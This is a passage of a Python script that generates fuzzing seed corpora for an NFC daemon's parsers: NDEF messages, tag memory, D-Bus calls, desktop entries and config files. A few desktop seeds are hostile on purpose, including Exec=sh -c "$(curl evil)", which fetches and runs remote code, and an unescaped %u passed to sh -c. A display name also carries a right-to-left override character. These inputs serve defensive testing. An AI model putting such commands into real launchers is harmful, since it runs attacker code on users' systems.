#!/usr/bin/env python3
"""Regenerate the committed seed corpus of the libFuzzer targets (Tests/Fuzz/corpus/).

    python3 Tests/Fuzz/make_seeds.py    # rewrites Tests/Fuzz/corpus/{message,tlv,cc,tagread,options,config,rfkill,desktop,dumps,
                                        #   pn532frame,vpcdmessage,passthrough,spool,cgroup,flatpakinfo,sheetwire,webnfc,crypto,securelink,
                                        #   sigcheck}/

Deterministic: no randomness, so the same files come out every time. Valid messages are built
with ndeflib (PyPI `ndeflib`, module `ndef`), the independent encoder the oracle test uses; the
encodings ndeflib never writes (chunked records, long headers for short payloads, IL=1 with an
empty ID), tag memory images and capability containers are written by hand. A few seeds are
deliberately invalid so that the error and lenient paths start with coverage too. The daemon's
seeds are D-Bus calls spelt in the `options` target's value program (ValueProgram in
targets/options.swift), configuration files, and /dev/rfkill record streams.
"""

import os
import shutil
import struct
import sys

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), '..', 'Support'))
from ndef_wire import record  # noqa: E402

import ndef
from ndef import handover as nd_ho
from ndef import smartposter as nd_sp
from ndef import wifi as nd_wifi

HERE = os.path.dirname(os.path.abspath(__file__))
CORPUS = os.path.join(HERE, 'corpus')


def encode(*records):
    return b''.join(ndef.message_encoder(list(records)))


def chunked(tnf, rtype, payload, sizes, rid=b'', long_headers=False, mb=1, me=1):
    """A record split into chunks of the given sizes (the last takes the rest)."""
    parts, at = [], 0
    for size in sizes:
        parts.append(payload[at:at + size])
        at += size
    parts.append(payload[at:])
    out = b''
    for i, part in enumerate(parts):
        first, last = i == 0, i == len(parts) - 1
        out += record(mb if first else 0, me if last else 0, 0 if last else 1,
                      tnf if first else 6, rtype if first else b'', rid if first else b'', part,
                      sr=False if long_headers else None)
    return out


def text_payload(text, lang=b'en', utf16=False, bom=b'\xfe\xff', big_endian=True):
    body = text.encode('utf-16-be' if big_endian else 'utf-16-le') if utf16 else text.encode('utf-8')
    if utf16:
        body = bom + body
    return bytes([(0x80 if utf16 else 0) | len(lang)]) + lang + body


# ---------------------------------------------------------------------------
# message: NDEF message bytes

def message_seeds():
    s = {}
    # Text (RTD-Text): UTF-8, UTF-16 with either byte order mark and without one.
    s['text-utf8'] = encode(ndef.TextRecord('Hello, world', 'en', 'UTF-8'))
    s['text-utf8-nonascii'] = encode(ndef.TextRecord('Grüße 😀 Ωμέγα', 'de-CH', 'UTF-8'))
    s['text-utf16-be-bom'] = record(1, 1, 0, 1, b'T', payload=text_payload('Bonjour', b'fr', utf16=True))
    s['text-utf16-le-bom'] = encode(ndef.TextRecord('Hallo 𝄞', 'de', 'UTF-16'))
    s['text-utf16-no-bom'] = record(1, 1, 0, 1, b'T', payload=text_payload('Hi', b'en', utf16=True, bom=b''))
    s['text-empty'] = record(1, 1, 0, 1, b'T', payload=b'\x02en')
    # URI (RTD-URI): abbreviated prefixes, none, and one long enough for a 4-byte length.
    s['uri-https-www'] = encode(ndef.UriRecord('https://www.nfc-forum.org/specs'))
    s['uri-tel'] = encode(ndef.UriRecord('tel:+1-555-0100'))
    s['uri-no-prefix'] = encode(ndef.UriRecord('geo:47.37,8.54'))
    s['uri-urn-nfc'] = record(1, 1, 0, 1, b'U', payload=b'\x23ext:example.com:thing')
    s['uri-long'] = encode(ndef.UriRecord('https://example.com/' + 'a' * 300))
    # Smart poster: URI, titles in two languages, action, size, type, icon.
    sp = ndef.SmartposterRecord('https://example.com/poster', {'en': 'Poster', 'de': 'Plakat'},
                                'exec', None, 4096, 'text/html')
    sp.add_icon('image/png', b'\x89PNG\r\n\x1a\n' + bytes(16))
    s['smartposter-full'] = encode(sp)
    s['smartposter-minimal'] = encode(ndef.SmartposterRecord('http://example.org'))
    # A smart poster nested four levels deep in itself: reaches NestedMessage.depthLimit.
    inner = encode(ndef.UriRecord('https://deep.example'))
    for _ in range(5):
        inner = record(1, 0, 0, 1, b'U', payload=b'\x04deep.example') + record(0, 1, 0, 1, b'Sp', payload=inner)
    s['smartposter-nested-deep'] = record(1, 1, 0, 1, b'Sp', payload=inner)
    # Connection handover: select with carriers, error; request with collision resolution;
    # mediation and initiate; a handover carrier record.
    wifi = ndef.WifiSimpleConfigRecord()
    wifi.set_attribute('version-1', 0x10)
    cred = nd_wifi.Credential()
    cred.set_attribute('network-index', 1)
    cred.set_attribute('ssid', b'HomeNet')
    cred.set_attribute('authentication-type', 0x0020)
    cred.set_attribute('encryption-type', 0x0008)
    cred.set_attribute('network-key', b'correct horse battery')
    cred.set_attribute('mac-address', b'\xff' * 6)
    wifi.add_attribute('credential', cred)
    wifi.set_attribute('wfa-vendor-extension', nd_wifi.WifiAllianceVendorExtension(('version-2', b'\x20')))
    wifi.name = 'wifi'
    bt = ndef.BluetoothEasyPairingRecord('01:02:03:04:05:06')
    bt.device_name = 'Speaker'
    bt.device_class = 0x240404
    bt.name = 'bt'
    le = ndef.BluetoothLowEnergyRecord()
    le.device_address = ('C0:FF:EE:00:11:22', 'random')
    le.role_capabilities = 'Peripheral'
    le.device_name = 'Tag LE'
    le.appearance = 0x00C1
    le.name = 'le'
    hs = ndef.HandoverSelectRecord('1.3')
    hs.add_alternative_carrier('active', 'wifi')
    hs.add_alternative_carrier('activating', 'bt', 'aux0')
    aux = ndef.TextRecord('aux data')
    aux.name = 'aux0'
    s['handover-select'] = encode(hs, wifi, bt, aux)
    s['handover-select-error'] = encode(ndef.HandoverSelectRecord('1.2', (2, 0x01020304)))
    hr = ndef.HandoverRequestRecord('1.3', 0xBEEF)
    hr.add_alternative_carrier('active', 'le')
    s['handover-request'] = encode(hr, le)
    hm = ndef.HandoverMediationRecord('1.3')
    hm.add_alternative_carrier('unknown', 'wifi')
    s['handover-mediation'] = encode(hm, wifi)
    s['handover-initiate'] = encode(ndef.HandoverInitiateRecord('1.3'))
    s['handover-version-only'] = record(1, 1, 0, 1, b'Hs', payload=b'\x12')
    hc = ndef.HandoverCarrierRecord('application/vnd.bluetooth.ep.oob', b'\x01\x02')
    hc.name = 'hc'
    s['handover-carrier'] = encode(hc)
    # Signature RTD 2.0: a marker, embedded signature with a certificate chain, URIs.
    s['signature-marker'] = encode(ndef.TextRecord('signed'), ndef.SignatureRecord(None))
    s['signature-bytes-certs'] = encode(
        ndef.UriRecord('https://example.com'),
        ndef.SignatureRecord('ECDSA-P256', 'SHA-256', bytes(range(64)), '', 'X.509',
                             [bytes(range(40)), bytes(range(40, 70))], None))
    s['signature-uris'] = encode(
        ndef.SignatureRecord('RSASSA-PSS-2048', 'SHA-256', b'', 'https://example.com/sig', 'M2M',
                             [], 'https://example.com/certs'))
    # Device information: every defined element and an undefined one.
    s['device-information'] = encode(ndef.DeviceInformationRecord(
        'ACME', 'Widget 3000', 'kitchen', '123e4567-e89b-12d3-a456-426655440000', '1.0.2', (0x42, b'\x01\x02')))
    # Media: Wi-Fi, Bluetooth (BR/EDR and LE), vCard, an icon, parameters and upper case.
    s['wifi'] = encode(wifi)
    s['bluetooth-ep'] = encode(bt)
    s['bluetooth-le'] = encode(le)
    s['vcard'] = encode(ndef.Record('text/vcard', None, b'BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Ann Example\r\nEND:VCARD\r\n'))
    s['vcard-params-case'] = record(1, 1, 0, 2, b'Text/X-VCard; charset=utf-8', payload=b'BEGIN:VCARD\r\nEND:VCARD\r\n')
    s['media-png'] = encode(ndef.Record('image/png', None, b'\x89PNG\r\n\x1a\n'))
    # Absolute URI, external types (Android application record, other), empty, unknown.
    s['absolute-uri'] = encode(ndef.Record('https://example.com/type', None, b'data'))
    s['android-app'] = encode(ndef.Record('urn:nfc:ext:android.com:pkg', None, b'com.example.app'))
    s['external'] = encode(ndef.Record('urn:nfc:ext:example.com:Thing', None, b'\x00\x01'))
    s['empty-record'] = encode(ndef.Record())
    s['unknown-tnf'] = encode(ndef.Record('unknown', None, b'\xde\xad\xbe\xef'))
    s['unknown-well-known-type'] = record(1, 1, 0, 1, b'xyz', payload=b'?')
    # Several records, IDs, and encodings ndeflib never writes.
    s['multi-record'] = encode(ndef.UriRecord('https://example.com'), ndef.TextRecord('one'),
                               ndef.TextRecord('deux', 'fr'), ndef.Record('unknown', 'id', b'x'))
    s['record-with-id'] = record(1, 1, 0, 1, b'T', b'urn:id:1', text_payload('id'))
    s['il-flag-empty-id'] = record(1, 1, 0, 1, b'U', b'', b'\x03example.com', il=True)
    s['long-header-short-payload'] = record(1, 1, 0, 1, b'T', payload=text_payload('long form'), sr=False)
    s['chunked-text'] = chunked(1, b'T', text_payload('chunked text record, three chunks'), [5, 10])
    s['chunked-long-headers'] = chunked(2, b'text/plain', b'0123456789' * 5, [20, 20], rid=b'c', long_headers=True)
    s['chunked-then-record'] = chunked(5, b'', bytes(range(30)), [7], me=0) + record(0, 1, 0, 1, b'T', payload=b'\x02enX')
    # Invalid on purpose (lenient recovers some of it).
    s['bad-trailing-data'] = encode(ndef.TextRecord('x')) + b'\x00\x00'
    s['bad-missing-me'] = record(1, 0, 0, 1, b'T', payload=b'\x02enA') + record(0, 0, 0, 1, b'T', payload=b'\x02enB')
    s['bad-unterminated-chunk'] = record(1, 0, 1, 1, b'T', payload=b'\x02en') + record(0, 1, 1, 6, payload=b'ab')
    s['bad-reserved-tnf'] = record(1, 0, 0, 1, b'T', payload=b'\x02enA') + record(0, 1, 0, 7, b'?', payload=b'r')
    s['bad-truncated'] = encode(ndef.TextRecord('truncated record'))[:-4]
    s['bad-text-payload'] = record(1, 1, 0, 1, b'T', payload=b'\x45en\xff')
    return s


# ---------------------------------------------------------------------------
# tlv: tag memory (the data area of a Type 1, 2 or 5 tag)

def tlv(tag, value=b'', three_byte=False):
    if three_byte or len(value) >= 0xFF:
        return bytes([tag, 0xFF]) + struct.pack('>H', len(value)) + value
    return bytes([tag, len(value)]) + value


NULL, LOCK, MEMORY, NDEF, PROPRIETARY, TERMINATOR = 0x00, 0x01, 0x02, 0x03, 0xFD, 0xFE


def tlv_seeds():
    msg = encode(ndef.UriRecord('https://example.com'))
    poster = message_seeds()['smartposter-full']
    big = encode(ndef.TextRecord('x' * 400))
    s = {}
    s['ntag213-uri'] = tlv(NDEF, msg) + bytes([TERMINATOR]) + bytes(16)
    s['blank-formatted'] = tlv(NDEF) + bytes([TERMINATOR]) + bytes(12)
    s['null-padding'] = bytes(3) + tlv(NDEF, msg) + bytes([TERMINATOR])
    # NTAG216-like dynamic memory: Lock Control then Memory Control, then the message.
    s['lock-memory-control'] = (tlv(LOCK, b'\xa0\x10\x44') + tlv(MEMORY, b'\x4c\x04\x34') +
                                tlv(NDEF, poster) + bytes([TERMINATOR]))
    s['lock-control-only'] = tlv(LOCK, b'\xf8\x48\x23') + tlv(NDEF, msg) + bytes([TERMINATOR])
    s['memory-control-size0'] = tlv(MEMORY, b'\x10\x00\x02') + tlv(NDEF, msg) + bytes([TERMINATOR])
    s['three-byte-length'] = tlv(NDEF, big) + bytes([TERMINATOR])
    s['three-byte-length-minimum'] = tlv(NDEF, encode(ndef.Record('unknown', None, bytes(252)))) + bytes([TERMINATOR])
    s['proprietary-then-ndef'] = tlv(PROPRIETARY, b'vendor') + tlv(NDEF, msg) + bytes([TERMINATOR])
    s['two-ndef-tlvs'] = tlv(NDEF, msg) + tlv(NDEF, encode(ndef.TextRecord('second'))) + bytes([TERMINATOR])
    s['no-terminator'] = tlv(NDEF, encode(ndef.TextRecord('no terminator')))
    s['terminator-first'] = bytes([TERMINATOR]) + tlv(NDEF, msg)
    s['only-null'] = bytes(8)
    s['type5-handover'] = tlv(NDEF, message_seeds()['handover-select']) + bytes([TERMINATOR]) + bytes(3)
    s['chunked-message'] = tlv(NDEF, message_seeds()['chunked-text']) + bytes([TERMINATOR])
    s['lenient-message'] = tlv(NDEF, message_seeds()['bad-missing-me']) + bytes([TERMINATOR])
    # Errors: a reader would read further, or the memory is not TLV-formatted.
    s['truncated-value'] = tlv(NDEF, msg)[:-5]
    s['truncated-three-byte-length'] = bytes([NDEF, 0xFF, 0x01])
    s['bad-three-byte-length-small'] = bytes([NDEF, 0xFF, 0x00, 0x10]) + bytes(16)
    s['bad-three-byte-length-ffff'] = bytes([NDEF, 0xFF, 0xFF, 0xFF])
    s['bad-control-length'] = tlv(LOCK, b'\xa0\x10') + tlv(NDEF, msg) + bytes([TERMINATOR])
    s['bad-reserved-tag'] = bytes([0x04, 0x01, 0x00]) + tlv(NDEF, msg)
    s['bad-tag-ff'] = bytes([0xFF, 0x01, 0x00]) + tlv(NDEF, msg)
    # Issue 23: a reserved tag is skipped by its length; the areas control TLVs announce (addresses
    # from byte 0 of the memory in the fuzz target's TLVDataArea walk) are skipped wherever they fall.
    s['reserved-tag-skipped'] = bytes([0x42, 0x02, 0x00, 0x00]) + tlv(NDEF, msg) + bytes([TERMINATOR])
    s['lock-bytes-between-tlvs'] = tlv(LOCK, b'\x11\x10\x42') + b'\xff\xff' + tlv(NDEF, msg) + bytes([TERMINATOR])
    inside = tlv(MEMORY, b'\x20\x04\x02') + tlv(NDEF, msg) + bytes([TERMINATOR])
    s['reserved-inside-message'] = inside[:8] + b'\xff' * 4 + inside[8:]
    return s


# ---------------------------------------------------------------------------
# cc: capability containers (Type 2: 4 bytes; Type 4: the CC file; Type 5: 4 or 8 bytes)

def type4_cc(version=0x20, mle=0x003B, mlc=0x0034, file_id=0xE104, size=0x0800, read=0x00, write=0x00,
             extended=False, extra=b''):
    if extended:
        control = bytes([0x06, 0x08]) + struct.pack('>HI', file_id, size) + bytes([read, write])
    else:
        control = bytes([0x04, 0x06]) + struct.pack('>HH', file_id, size) + bytes([read, write])
    body = bytes([version]) + struct.pack('>HH', mle, mlc) + extra + control
    return struct.pack('>H', 2 + len(body)) + body


def cc_seeds():
    s = {}
    s['t2-ntag213'] = b'\xe1\x10\x12\x00'
    s['t2-ntag216'] = b'\xe1\x10\x6d\x00'
    s['t2-ultralight-readonly'] = b'\xe1\x10\x06\x0f'
    s['t2-proprietary-access'] = b'\xe1\x11\x3e\x80'
    s['t2-not-ndef'] = b'\x00\x00\x00\x00'
    s['t2-version-2'] = b'\xe1\x20\x12\x00'
    s['t4-v2-15-bytes'] = type4_cc()
    s['t4-v1-mapping'] = type4_cc(version=0x10, mle=0x00F6, mlc=0x00F6)
    s['t4-v2-readonly'] = type4_cc(write=0xFF, mle=0x00FF, mlc=0x00FF)
    s['t4-v2-proprietary-access'] = type4_cc(read=0x80, write=0x81)
    s['t4-v3-17-bytes-extended'] = type4_cc(version=0x30, mle=0xFFFF, mlc=0xFFFF, size=0x00010000, extended=True)
    s['t4-v3-trailing-bytes'] = type4_cc(version=0x30) + b'\x00\x00\x00'
    s['t4-other-tlv-first'] = type4_cc(extra=bytes([0x05, 0x02, 0xAA, 0xBB]))
    s['t4-reserved-file-id'] = type4_cc(file_id=0xE103)
    s['t4-bad-mle'] = type4_cc(mle=0x000E)
    s['t4-no-file-control'] = bytes([0x00, 0x0F, 0x20, 0x00, 0x3B, 0x00, 0x34, 0x05, 0x06]) + bytes(6)
    s['t4-cclen-too-big'] = b'\x00\x20' + type4_cc()[2:]
    s['t5-4-bytes'] = b'\xe1\x40\x40\x01'
    s['t5-4-bytes-locks-special'] = b'\xe1\x43\x10\x19'
    s['t5-8-bytes'] = b'\xe2\x40\x00\x01\x00\x00\x03\xff'
    s['t5-8-bytes-e1'] = b'\xe1\x40\x00\x09\x00\x00\x01\x00'
    s['t5-mlen-zero-short'] = b'\xe1\x40\x00\x01'
    s['t5-version-2'] = b'\xe1\x80\x40\x00'
    return s


# ---------------------------------------------------------------------------
# options: D-Bus method calls as programs of targets/options.swift (ValueProgram)

REGISTER, START, UNREGISTER, INHIBIT, INVALIDATE, RESTART, SET, LIST_APPS, START_WRITE, CANCEL_WRITE = range(10)


def call(method, *arguments, signature=None):
    """Method index, then the argument count (bit 7: the signature is spelt after the arguments)."""
    shape = len(arguments) | (0x80 if signature is not None else 0)
    out = bytes([method, shape]) + b''.join(arguments)
    return out + (text(signature) if signature is not None else b'')


def text(value, opcode=None):
    data = value.encode('utf-8') if isinstance(value, str) else value
    assert len(data) < 256
    return (bytes([opcode]) if opcode is not None else b'') + bytes([len(data)]) + data


def s_(value):
    return text(value, 0)


def o_(value):
    return text(value, 3)


def b_(flag):
    return bytes([5, 1 if flag else 0])


def u_(number):
    return bytes([10]) + struct.pack('<I', number)


def array(*elements):
    return bytes([16, len(elements)]) + b''.join(elements)


def vardict(entries, wrap=True):
    """a{sv}: each entry's value in a variant (or not, when wrap is false)."""
    out = bytes([17, len(entries)])
    for key, value in entries:
        out += s_(key) + value + bytes([0 if wrap else 1])
    return out


def variant(value):
    return bytes([19]) + value


def filters(*dicts):
    return array(*[vardict([(k, s_(v)) for k, v in d]) for d in dicts])


def options_seeds():
    s = {}
    handler = o_('/org/example/Handler')
    web = [('uri-scheme', 'https'), ('uri-host', 'example.com'), ('uri-path-prefix', '/posters/')]
    s['register-uri'] = call(REGISTER, handler, vardict([('app-name', s_('Posters')), ('filters', filters(web))]))
    s['register-every-kind'] = call(REGISTER, handler, vardict([
        ('app-name', s_(' Contacts ')), ('app-icon', s_('x-office-address-book')),
        ('desktop-entry', s_('org.example.Contacts.desktop')),
        ('filters', filters([('media-type', 'text/vcard')], [('media-type', 'image/*')],
                            [('external-type', 'example.com:ticket')], [('android-package', 'com.example.app')],
                            [('uri-scheme', 'tel')], [('uri-scheme', 'HTTPS'), ('uri-host', 'EXAMPLE.org')]))]))
    s['register-unwrapped'] = call(REGISTER, handler, vardict([('app-name', s_('Posters')), ('filters', filters(web))], wrap=False))
    s['register-65-filters'] = call(REGISTER, handler, vardict([
        ('app-name', s_('Many')), ('filters', filters(*[[('uri-scheme', 'https')]] * 65))]))
    s['register-no-app-name'] = call(REGISTER, handler, vardict([('filters', filters(web))]))
    s['register-filter-not-dict'] = call(REGISTER, handler, vardict([('app-name', s_('Bad')), ('filters', array(s_('https')))]))
    s['register-filter-number'] = call(REGISTER, handler, vardict([('app-name', s_('Bad')), ('filters', array(vardict([('uri-scheme', u_(1))])))]))
    s['register-unsafe-name'] = call(REGISTER, handler, vardict([('app-name', s_('Po\u202esters')), ('filters', filters(web))]))
    s['register-bad-path'] = call(REGISTER, handler, vardict([('app-name', s_('Posters')),
                                                               ('filters', filters([('uri-scheme', 'https'), ('uri-host', 'a'), ('uri-path-prefix', '/a/./b/%7e/../c')]))]))
    s['register-nested-variants'] = call(REGISTER, handler, variant(variant(vardict([('app-name', variant(s_('Posters'))),
                                                                                      ('filters', filters(web))]))))
    s['register-wrong-signature'] = call(REGISTER, handler, vardict([('app-name', s_('Posters')), ('filters', filters(web))]), signature='sa{sv}')
    s['start-session'] = call(START, vardict([('object', s_('badge')), ('multiple', b_(True)), ('alert-message', s_('Hold your badge near the reader')),
                                             ('timeout', u_(120)), ('language', s_('zh_CN.UTF-8'))]))
    s['start-session-empty'] = call(START, vardict([]))
    s['start-session-bad-timeout'] = call(START, vardict([('timeout', u_(0))]))
    s['start-session-unknown-option'] = call(START, vardict([('colour', s_('red'))]))
    s['unregister'] = call(UNREGISTER, u_(7))
    s['inhibit'] = call(INHIBIT, s_('background'), s_('Kiosk'), s_('a demo'))
    s['list-apps'] = call(LIST_APPS)
    s['invalidate'] = call(INVALIDATE, s_('Read failed'))
    s['restart-polling'] = call(RESTART)
    s['set-alert-message'] = call(SET, s_('org.nfcscan.ScanSession1'), s_('AlertMessage'), variant(s_('Hold still')))
    s['start-write-uri'] = call(START_WRITE, vardict([('uri', s_('https://example.com/new')), ('object', s_('poster')),
                                                     ('timeout', u_(30)), ('language', s_('zh-Hans'))]))
    s['start-write-text-lock'] = call(START_WRITE, vardict([('text', s_('Summer concert')), ('text-language', s_('en-GB')),
                                                           ('lock', b_(True)), ('format', b_(True)),
                                                           ('password', array(*[bytes([6, b]) for b in (1, 2, 3, 4)]))]))
    s['start-write-message'] = call(START_WRITE, vardict([('message', array(*[bytes([6, b]) for b in
                                                                              encode(ndef.UriRecord('https://example.com/'))]))]))
    s['start-write-erase-and-uri'] = call(START_WRITE, vardict([('erase', b_(True)), ('uri', s_('https://example.com/'))]))
    s['start-write-nothing'] = call(START_WRITE, vardict([]))
    s['cancel-write'] = call(CANCEL_WRITE)
    s['unknown-method'] = bytes([0xff]) + text('/org/nfcscan/Scanner1') + text('org.nfcscan.Scanner1') + text('Frobnicate') + b'\x00'
    return s


# ---------------------------------------------------------------------------
# desktop: desktop entry files (Desktop Entry Specification) with X-NFCScan-Filters

def desktop_seeds():
    head = b'[Desktop Entry]\nType=Application\nName=Posters\n'
    s = {}
    s['exec-file'] = head + b'Icon=org.example.Posters\nExec=posters --scan %f\nX-NFCScan-Filters=media-type=text/vcard;\n'
    s['mimeapps'] = (b'# a settings app wrote this\n[Default Applications]\nx-scheme-handler/mailto=mutt.desktop;thunderbird.desktop\n'
                     b'text/vcard=org.gnome.Contacts.desktop;\n\n[Added Associations]\nx-scheme-handler/tel=calls.desktop;\n'
                     b'[Removed Associations]\ntext/vcard=evolution.desktop;\n')
    s['exec-link'] = head + b'Exec="/opt/My Posters/posters" %U %i %c %k 100%%\nX-NFCScan-Filters=uri-scheme=https,uri-host=example.com\n'
    s['dbus'] = head + b'DBusActivatable=true\nNoDisplay=true\nX-NFCScan-Filters=external-type=example.com:ticket\n'
    s['localised'] = head + b'Name[de]=Plakate\nName[zh_CN]=\xe6\xb5\xb7\xe6\x8a\xa5\nExec=p\n\n[Desktop Action New]\nName=New\nExec=p --new\n'
    s['hidden'] = b'[Desktop Entry]\r\nType=Application\r\nName=P\r\nHidden=true\r\n'
    s['tryexec'] = head + b'TryExec=posters\nExec=posters\n'
    s['quoted-code'] = head + b'Exec=sh -c "open %u"\n'
    s['shell-code'] = head + b'Exec=sh -c %u\n'
    s['shell-subst'] = head + b'Exec=sh -c "$(curl evil)"\n'
    s['escapes'] = head + b'Exec=p "a \\\\"b\\\\" \\$x"\\sx\n'
    s['duplicate-key'] = head + b'Name=Other\nExec=p\n'
    s['no-group'] = b'Type=Application\n'
    s['bad-utf8'] = b'[Desktop Entry]\nType=Application\nName=\xc3\x28\nExec=p\n'
    s['bad-locale'] = head + b'Name[=x\nExec=p\n'
    return s


# config: nfcscand.conf

def config_seeds():
    s = {}
    s['kiosk'] = (b'[background]\n# These conditions do not pause background reading on this machine.\n'
                  b'ignore = screen-off, locked-after-restart\n')
    s['every-condition'] = b'[background]\nignore=camera,airplane-mode,locked-after-restart,screen-off\n'
    s['empty-ignore'] = b'\n  # nothing\n[ background ]\n\tignore =\n'
    s['twice'] = b'[background]\nignore = camera\nignore = screen-off\n'
    s['not-a-system-condition'] = b'[background]\nignore = scan-session\n'
    s['outside-section'] = b'ignore = camera\n'
    s['unknown-section'] = b'[foreground]\n'
    s['unknown-key'] = b'[background]\nignored = camera\n'
    s['no-equals'] = b'[background]\njust words\n'
    s['unclosed-section'] = b'[background\n'
    s['windows-line-endings'] = b'# a reception desk\r\n[background]\r\nignore = screen-off\r\n'
    # [broker] (issue 15): a station publishing to an MQTT broker.
    s['broker'] = (b'[broker]\nurl = mqtts://broker.example:8883\nstation = counter-2\npublish = identity\n'
                   b'username = nfcscan\npassword-file = /p\nca-file = /ca.pem\nclient-cert-file = /c.pem\n'
                   b'client-key-file = /k.pem\ntopic-prefix = shop/counter-2\n')
    s['broker-ipv6'] = b'[background]\nignore = camera\n[broker]\nurl = mqtt://[::1]:1883/\n'
    s['broker-bad-prefix'] = b'[broker]\nurl = mqtt://h\ntopic-prefix = a/#\n'
    s['broker-twice'] = b'[broker]\nurl = mqtt://h\n[broker]\nurl = mqtt://h\n'
    # [authenticity] (issue 24): what a station does with a chip that is not genuine.
    s['authenticity-refuse'] = b'[authenticity]\nnot-genuine = refuse\n'
    s['authenticity-bad-value'] = b'[background]\nignore = camera\n[authenticity]\nnot-genuine = mark\n'
    return s


# ---------------------------------------------------------------------------
# spool: the broker spool's counters file (SpoolCounters: two fixed-width slots, or the lines of
# earlier versions) and its entries (a scan event's JSON, numbered by its name). The target
# reads the first 8 bytes as the entry's seq, the rest as both.

def counters_slot(generation, next_seq, dropped):
    body = b'v1 %020d %020d %020d ' % (generation, next_seq, dropped)
    check = 0x811C9DC5
    for byte in body:
        check = ((check ^ byte) * 0x01000193) & 0xFFFFFFFF
    return body + b'%08x\n' % check


def spool_seeds():
    seq = struct.pack('<Q', 7)
    s = {}
    s['counters'] = seq + counters_slot(6, 12, 0) + counters_slot(7, 13, 1)
    s['counters-torn'] = seq + counters_slot(6, 12, 0) + counters_slot(7, 13, 1)[:40] + b'9' * 35
    s['counters-beyond-2-53'] = seq + counters_slot(8, 1 << 60, 0) + counters_slot(7, 13, 1)
    s['legacy'] = seq + b'next-seq 40\ndropped 3\n'
    s['legacy-largest'] = seq + b'next-seq 18446744073709551615\ndropped 0\n'
    s['legacy-twice'] = seq + b'next-seq 4\nnext-seq 5\n'
    s['event'] = seq + b'{"event_id":"5f0c","seq":7,"time":"2026-11-27T06:54:00.000Z","station":"door","reader":"r","uid":"04a1","tag_id":"04a1"}'
    s['event-other-seq'] = seq + b'{"event_id":"5f0c","seq":8,"uid":"04a1"}'
    s['not-utf8'] = seq + b'{"seq":7,\xff\xfe}'
    return s


# ---------------------------------------------------------------------------
# rfkill: /dev/rfkill record streams (struct rfkill_event: idx u32 LE, type, op, soft, hard)

def rfkill_event(index, rtype, op, soft=0, hard=0):
    return struct.pack('<IBBBB', index, rtype, op, soft, hard)


def rfkill_seeds():
    s = {}
    s['airplane-on'] = rfkill_event(0, 1, 0) + rfkill_event(1, 2, 0) + rfkill_event(0, 1, 2, soft=1) + rfkill_event(1, 2, 2, hard=1)
    s['change-all'] = rfkill_event(0, 1, 0, soft=1) + rfkill_event(1, 2, 0, soft=1) + rfkill_event(0, 0, 3) + rfkill_event(0, 2, 3, soft=1)
    s['delete'] = rfkill_event(0, 1, 0, soft=1) + rfkill_event(7, 2, 0) + rfkill_event(7, 2, 1)
    s['unknown-operation'] = rfkill_event(0, 1, 9, soft=1) + rfkill_event(0x01020304, 5, 0, hard=2)
    s['short-read'] = rfkill_event(0, 1, 0, soft=1) + b'\x01\x00\x00'
    return s


def answer(data=b'', control=0):
    """One exchange of the `tagread` target's script: an answer of `data`."""
    if len(data) < 256:
        return bytes([control, len(data)]) + data
    assert len(data) <= 0xFFF
    return bytes([0x80 | (len(data) & 0x0F) << 3, len(data) >> 4]) + data


def tagread_seeds():
    """Scripts under which each type's read succeeds (see targets/tagread.swift), and a few
    where the object misbehaves."""
    poster = encode(ndef.UriRecord('https://example.com/summer-concert'))
    ntag_tlv = tlv(0x03, poster) + b'\xfe'
    seeds = {}

    # Type 2 over a storage-card link (READ only, 16-byte answers): CC on page 3, then the TLVs.
    memory = bytes([0x04, 0x11, 0x22, 0x33, 0x44, 0x55, 0x66, 0x00, 0x00, 0x48, 0x00, 0x00,
                    0xE1, 0x10, 0x12, 0x00]) + ntag_tlv + bytes(160)
    seeds['type2-read'] = bytes([1, 0x10]) + b''.join(answer(memory[p * 4:p * 4 + 16]) for p in range(3, 40, 4))
    # Type 2 with GET_VERSION (an NTAG213) and FAST_READ of pages 3 to 15 (for the drivers, which
    # send no READ_SIG); the read with READ_SIG (its 32-byte signature) between them.
    seeds['type2-fast-read'] = bytes([1, 0x11]) + answer(bytes([0, 4, 4, 2, 1, 0, 0x0F, 3])) + answer(memory[12:64])
    seeds['type2-signature'] = bytes([1, 0x11]) + answer(bytes([0, 4, 4, 2, 1, 0, 0x0F, 3])) + \
        answer(bytes(range(0x40, 0x60))) + answer(memory[12:64])
    # A clone that NAKs READ_SIG: woken again (reactivation byte 0: still there), then FAST_READ.
    seeds['type2-signature-nak'] = bytes([1, 0x11]) + answer(bytes([0, 4, 4, 2, 1, 0, 0x0F, 3])) + answer(b'\x00') + \
        bytes([0]) + answer(memory[12:64])
    # A plain Ultralight: GET_VERSION times out, the chip is woken again, READs follow.
    seeds['type2-ultralight'] = bytes([1, 0x11]) + bytes([4, 0]) + \
        b''.join(answer(memory[p * 4:p * 4 + 16]) for p in range(3, 16, 4))
    # Leftovers after the message and no Terminator.
    left = memory[:16] + tlv(0x03, poster) + bytes([0x8D, 0x41, 0x00, 0x72]) + bytes(160)
    seeds['type2-leftovers'] = bytes([1, 0x10]) + b''.join(answer(left[p * 4:p * 4 + 16]) for p in range(3, 40, 4))

    # Type 4: SELECT application, SELECT CC, READ CC, SELECT NDEF file, READ NLEN, READ message.
    ok = b'\x90\x00'
    nlen = struct.pack('>H', len(poster))
    seeds['type4'] = bytes([3, 0x10]) + answer(ok) + answer(ok) + answer(type4_cc(size=0x00FF) + ok) + \
        answer(ok) + answer(nlen + ok) + answer(poster + ok)
    seeds['type4-v1'] = bytes([3, 0x10]) + answer(b'\x6a\x82') + answer(ok) + answer(ok) + \
        answer(type4_cc(version=0x10, size=0x00FF) + ok) + answer(ok) + answer(nlen + ok) + answer(poster + ok)
    seeds['type4-status'] = bytes([3, 0x10]) + answer(ok) + answer(b'\x69\x86')
    # The same read, then Read_Sig: 56 bytes and 91 00.
    seeds['type4-signature'] = seeds['type4'] + answer(bytes(range(0x10, 0x48)) + b'\x91\x00')

    # Type 5 without GET SYSTEM INFORMATION: READ SINGLE BLOCK 0, 1, 2, ... (flags byte first).
    t5 = bytes([0xE1, 0x40, 0x0D, 0x01]) + ntag_tlv + bytes(64)
    seeds['type5-blocks'] = bytes([4, 0x30]) + b''.join(answer(b'\x00' + t5[b * 4:b * 4 + 4]) for b in range(0, 20))
    seeds['type5-error'] = bytes([4, 0x30]) + answer(b'\x01\x10')
    # An ICODE SLIX2 with GET SYSTEM INFORMATION: its UID, block 0, READ SIGNATURE, READ MULTIPLE BLOCKS.
